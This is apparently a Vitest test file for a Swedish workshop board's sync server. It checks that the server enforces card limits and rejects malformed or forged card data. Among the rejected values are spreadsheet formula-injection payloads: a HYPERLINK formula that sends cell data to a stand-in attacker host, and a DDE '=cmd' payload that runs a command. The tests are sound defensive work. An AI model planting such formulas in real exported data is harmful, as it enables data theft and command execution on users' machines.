import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as encoding from 'lib0/encoding';
import * as syncProtocol from 'y-protocols/sync';
import * as Y from 'yjs';
import { createLogger } from '../../server/log/logger';
import { MESSAGE, CLOSE } from '../../shared/sync/protocol';
import { boardRoom, draftRoom } from '../../shared/sync/rooms';
import { addCard, cardsMap, readCards, type CardAuthor, type NewCard } from '../../shared/workshops/board';
import type { WorkshopView } from '../../shared/api/workshops';
import { SyncHarness, synced, until, type TestClient } from '../helpers/sync-harness';
import { driverUnderTest } from '../helpers/test-database';
import { guestCookieFrom } from '../helpers/workshops';
import { stockholmDate } from '../../shared/calendar/stockholm-day';

/**
 * Issue 12, items 1 and 9: a board takes a kommun's number of cards (per board and per participant) and
 * card length, and only values of the card layout's types; whatever a client sends outside that is
 * refused (4409) and never stored. Real server, real y-websocket clients.
 */
describe(`a board's limits and the shape of what it stores, on ${driverUnderTest}`, () => {
  let h: SyncHarness;
  let facilitator: string;
  let workshop: WorkshopView;
  let room: string;
  const limits = { maxCardsPerBoard: 10, maxCardsPerParticipant: 3, maxCardTextLength: 50 };
  /** The first guest, whose cards the later tests edit. */
  let anna: { cookie: string; author: CardAuthor };

  const card = (author: CardAuthor | null, overrides: Partial<NewCard> = {}): NewCard => ({
    id: crypto.randomUUID(),
    text: 'Fler äldre',
    categoryId: 'sociala:utmaningar',
    author,
    createdAt: new Date().toISOString(),
    ...overrides,
  });
  async function guest(name: string) {
    const joined = await h.api<{ participant: CardAuthor }>('POST', '/workshops/join', undefined, { code: workshop.joinCode, name });
    expect(joined.status).toBe(200);
    return { cookie: guestCookieFrom(joined.response)!, author: { participantId: joined.body.participant.participantId, name: joined.body.participant.name } };
  }
  async function writer(cookie: string): Promise<TestClient> {
    const client = h.client(room, cookie);
    await synced(client);
    expect(client.notices[0]).toEqual({ type: 'mode', mode: 'write' });
    return client;
  }
  /** The board as a fresh connection receives it: what the server holds. */
  async function stored() {
    const reader = h.client(room, facilitator);
    await synced(reader);
    const cards = readCards(reader.doc);
    reader.destroy();
    return cards;
  }
  const logLines: string[] = [];
  /** Waits for the 4409 and checks the server's logged reason, so that no test passes on a refusal for something else. */
  async function refused(client: TestClient, what: string, reason: string) {
    const logged = logLines.length;
    await until(() => client.closes.includes(CLOSE.refused), `the refusal of ${what}`, 5000);
    const refusals = logLines.slice(logged).filter((line) => line.includes('refused a change to a sync room'));
    expect(refusals.map((line) => (JSON.parse(line) as { reason: string }).reason), what).toEqual([reason]);
  }
  /** Writes on a client of its own and checks the server refuses it and keeps the board as it was. */
  async function expectRefused(cookie: string, what: string, reason: string, change: (doc: Y.Doc) => void) {
    const before = await stored();
    const client = await writer(cookie);
    change(client.doc);
    await refused(client, what, reason);
    client.destroy();
    expect(await stored()).toEqual(before);
  }
  /** Sends one raw sync update over a connection, as a client that does not use Yjs's own encoder could. */
  function sendRaw(client: TestClient, update: Uint8Array) {
    const encoder = encoding.createEncoder();
    encoding.writeVarUint(encoder, MESSAGE.sync);
    syncProtocol.writeUpdate(encoder, update);
    client.provider.ws!.send(encoding.toUint8Array(encoder));
  }

  beforeAll(async () => {
    h = await SyncHarness.start({ persistBatchMs: 20 }, { log: createLogger('json', 'debug', (line) => logLines.push(line)) });
    facilitator = await h.login('processledare@exempelkommun.se');
    const admin = await h.login('admin@exempelkommun.se');
    const settings = await h.api<{ organisation: { settings: { workshopLimits: typeof limits } } }>('PATCH', '/admin/organisation', admin, { settings: { workshopLimits: limits } });
    expect(settings.status).toBe(200);
    expect(settings.body.organisation.settings.workshopLimits).toEqual(limits);
    const today = stockholmDate(new Date());
    workshop = (await h.api<{ workshop: WorkshopView }>('POST', '/workshops', facilitator, { type: 'omvarldsdag', title: 'Omvärldsdag', date: today, groupCount: 1 })).body.workshop;
    room = boardRoom(workshop.id, workshop.groups[0]!.id);
    expect((await h.api('POST', `/workshops/${workshop.id}/control`, facilitator, { phaseId: 'grupparbete' })).status).toBe(200);
  });
  afterAll(() => h.stop());

  it('refuses settings outside their bounds with a Swedish message', async () => {
    const admin = await h.login('admin@exempelkommun.se');
    const response = await h.api<{ error: { message: string } }>('PATCH', '/admin/organisation', admin, { settings: { workshopLimits: { maxCardsPerBoard: 0 } } });
    expect(response.status).toBe(400);
    expect(response.body.error.message).toMatch(/[a-zåäö]/);
  });

  it("stops a participant at their share of cards, signed or not, and keeps what they wrote before", async () => {
    anna = await guest('Anna Gäst');
    const client = await writer(anna.cookie);
    for (let i = 0; i < limits.maxCardsPerParticipant; i++) addCard(client.doc, card(anna.author, { text: `Kort ${i}` }));
    await until(async () => (await stored()).length === limits.maxCardsPerParticipant, "Anna's cards stored");
    expect(client.closes).toEqual([]);
    addCard(client.doc, card(anna.author, { text: 'Ett för mycket' }));
    await refused(client, 'a card over the participant limit', "the participant's cards are used up");
    client.destroy();
    // An unsigned card names nobody, but it is still hers to count.
    await expectRefused(anna.cookie, 'an unsigned card over the limit', "the participant's cards are used up", (doc) => addCard(doc, card(null)));
    expect((await stored()).map((stored) => stored.text).sort()).toEqual(['Kort 0', 'Kort 1', 'Kort 2']);
  });

  it('stops everyone once the board is full', async () => {
    let onBoard = (await stored()).length;
    while (onBoard < limits.maxCardsPerBoard) {
      const other = await guest(`Gäst ${onBoard}`);
      const client = await writer(other.cookie);
      const count = Math.min(limits.maxCardsPerParticipant, limits.maxCardsPerBoard - onBoard);
      client.doc.transact(() => {
        for (let i = 0; i < count; i++) addCard(client.doc, card(other.author));
      });
      onBoard += count;
      await until(async () => (await stored()).length === onBoard, 'the cards stored');
      expect(client.closes).toEqual([]);
      client.destroy();
    }
    const late = await guest('Sen Gäst');
    await expectRefused(late.cookie, 'a card on a full board', 'the board is full', (doc) => addCard(doc, card(late.author)));
    await expectRefused(facilitator, "a facilitator's card on a full board", 'the board is full', (doc) => addCard(doc, card(null)));
  });

  it('refuses a card text over the limit, written at once or typed into an existing card', async () => {
    const held = await stored();
    const first = held.find((stored) => stored.text === 'Kort 0')!;
    // A participant's own card can grow up to the limit, not past it: Anna's first card, edited by her.
    const editor = await writer(anna.cookie);
    const text = () => cardsMap(editor.doc).get(first.id)!.get('text') as Y.Text;
    text().insert(text().length, '.'.repeat(limits.maxCardTextLength - text().length));
    await until(async () => (await stored()).find((stored) => stored.id === first.id)!.text.length === limits.maxCardTextLength, 'the card at the limit');
    expect(editor.closes).toEqual([]);
    text().insert(0, 'x');
    await refused(editor, 'an edit past the limit', "a card's text over the limit");
    editor.destroy();
    expect((await stored()).find((stored) => stored.id === first.id)!.text.length).toBe(limits.maxCardTextLength);

    // A card that is over the limit when written, in a board with room for it.
    const moderator = await writer(facilitator);
    cardsMap(moderator.doc).delete(held.find((stored) => stored.text === 'Kort 1')!.id);
    await until(async () => (await stored()).length === limits.maxCardsPerBoard - 1, 'a place freed');
    moderator.destroy();
    const other = await guest('Cecilia Gäst');
    await expectRefused(other.cookie, 'an over-long card', "a card's text over the limit", (doc) => addCard(doc, card(null, { text: 'å'.repeat(limits.maxCardTextLength + 1) })));
  });

  it("refuses values of the wrong type or shape, a forged or rewritten time, and keys the card layout does not have", async () => {
    const bo = await guest('Bo Gäst');
    const write = (values: Record<string, unknown>) => (doc: Y.Doc) => {
      const map = new Y.Map<unknown>();
      const { text, ...rest } = { text: new Y.Text('Kort'), categoryId: 'sociala:utmaningar', clusterId: null, author: bo.author, createdAt: new Date().toISOString(), ...values };
      map.set('text', text);
      for (const [key, value] of Object.entries(rest)) if (value !== undefined) map.set(key, value);
      cardsMap(doc).set(crypto.randomUUID(), map);
    };
    const hour = 60 * 60 * 1000;
    const cases: Array<[string, Record<string, unknown>, string]> = [
      ['a formula as the time', { createdAt: '=HYPERLINK("http://angripare.example/?"&A1;"Klicka")' }, "a card's createdAt of the wrong shape"],
      ['a time two days old', { createdAt: new Date(Date.now() - 48 * hour).toISOString() }, "a card's createdAt of the wrong shape"],
      ['a time an hour ahead', { createdAt: new Date(Date.now() + hour).toISOString() }, "a card's createdAt of the wrong shape"],
      ['a time that is a number', { createdAt: Date.now() }, "a card's createdAt of the wrong shape"],
      ['no time at all', { createdAt: undefined }, 'a card without its text, category or time'],
      ['a category that is a number', { categoryId: 7 }, "a card's categoryId of the wrong shape"],
      ['a category the layout does not have', { categoryId: '=1+1' }, "a card's categoryId of the wrong shape"],
      ['a cluster that is an object', { clusterId: { id: 'k' } }, "a card's clusterId of the wrong shape"],
      ['an author with more than a name', { author: { ...bo.author, role: 'admin' } }, "a card's author of the wrong shape"],
      ['an author that is a string', { author: 'Bo Gäst' }, "a card's author of the wrong shape"],
      ['a text that is a plain string', { text: 'Kort' }, "a card's text that is not a text"],
      ['a text that is an XML text', { text: new Y.XmlText('Kort') }, "a card's text that is not a text"],
      ['a key the layout does not have', { votes: 100 }, 'a card key that does not exist'],
    ];
    for (const [what, values, reason] of cases) await expectRefused(bo.cookie, what, reason, write(values));

    const annas = (await stored()).find((stored) => stored.author?.name === 'Anna Gäst')!;
    await expectRefused(facilitator, "a card's time rewritten", "a card's author or time changed", (doc) => cardsMap(doc).get(annas.id)!.set('createdAt', new Date().toISOString()));
    await expectRefused(bo.cookie, "a card's category set to a formula", "a card's categoryId of the wrong shape", (doc) => cardsMap(doc).get(annas.id)!.set('categoryId', '=cmd|"/c calc"!A1'));
    await expectRefused(anna.cookie, 'a format in her own card text', "something other than characters in a card's text", (doc) => (cardsMap(doc).get(annas.id)!.get('text') as Y.Text).format(0, 2, { bold: true }));
    await expectRefused(bo.cookie, 'an entry outside the cards', "an entry outside the board's cards and clusters", (doc) => doc.getMap('annat').set('x', 1));
  });

  it("holds a participant's hidden cards (their draft room, which the reveal copies onto the board) to the same rules", async () => {
    const control = (body: Record<string, unknown>) => h.api('POST', `/workshops/${workshop.id}/control`, facilitator, body);
    expect((await control({ cardsHidden: true })).status).toBe(200);
    try {
      const dora = await guest('Dora Gäst');
      const draft = () => h.client(draftRoom(workshop.id, dora.author.participantId), dora.cookie);
      const forged = draft();
      await synced(forged);
      await until(() => forged.notices.some((notice) => notice.type === 'mode' && notice.mode === 'write'), 'the draft room writable');
      addCard(forged.doc, card(dora.author, { createdAt: '=HYPERLINK("http://angripare.example")' }));
      await refused(forged, 'a hidden card with a formula as its time', "a card's createdAt of the wrong shape");
      forged.destroy();

      const many = draft();
      await synced(many);
      await until(() => many.notices.some((notice) => notice.type === 'mode' && notice.mode === 'write'), 'the draft room writable');
      many.doc.transact(() => {
        for (let i = 0; i <= limits.maxCardsPerParticipant; i++) addCard(many.doc, card(dora.author));
      });
      await refused(many, 'more hidden cards than a participant may write', "the participant's cards are used up");
      many.destroy();
    } finally {
      expect((await control({ cardsHidden: false })).status).toBe(200);
    }
  });

  it('refuses an update whose parts the room does not hold, so nothing slips in later unchecked', async () => {
    const bo = await guest('Bo Gäst 2');
    // A card and then an edit of it: sent alone, the edit would wait in Yjs for the card and be applied
    // when it arrives, on an update the guard never read. Once from the card's own client (its clock
    // starts past what the room holds), once an edit next to an anonymous card's characters (written by
    // a throwaway client) that the room has never seen.
    for (const [author, reason] of [
      [bo.author, 'an update missing earlier changes of its writer'],
      [null, 'an item placed next to something the room does not hold'],
    ] as const) {
      const client = await writer(bo.cookie);
      const scratch = new Y.Doc();
      const updates: Uint8Array[] = [];
      scratch.on('update', (update: Uint8Array) => updates.push(update));
      const id = crypto.randomUUID();
      addCard(scratch, card(author, { id }));
      (cardsMap(scratch).get(id)!.get('text') as Y.Text).insert(0, 'å'.repeat(limits.maxCardTextLength));
      sendRaw(client, updates[1]!);
      await refused(client, 'an update missing its first half', reason);
      client.destroy();
      expect((await stored()).some((stored) => stored.id === id)).toBe(false);
    }

    const deleting = await writer(bo.cookie);
    // A V1 update of no structs and a delete set for five items of a client nobody has heard of: Yjs
    // would keep the deletion and delete those items when someone writes them.
    const encoder = encoding.createEncoder();
    for (const value of [0, 1, 4242, 1, 0, 5]) encoding.writeVarUint(encoder, value);
    sendRaw(deleting, encoding.toUint8Array(encoder));
    await refused(deleting, 'a deletion of items nobody holds', 'a deletion of something the room does not hold');
    deleting.destroy();
  });

});
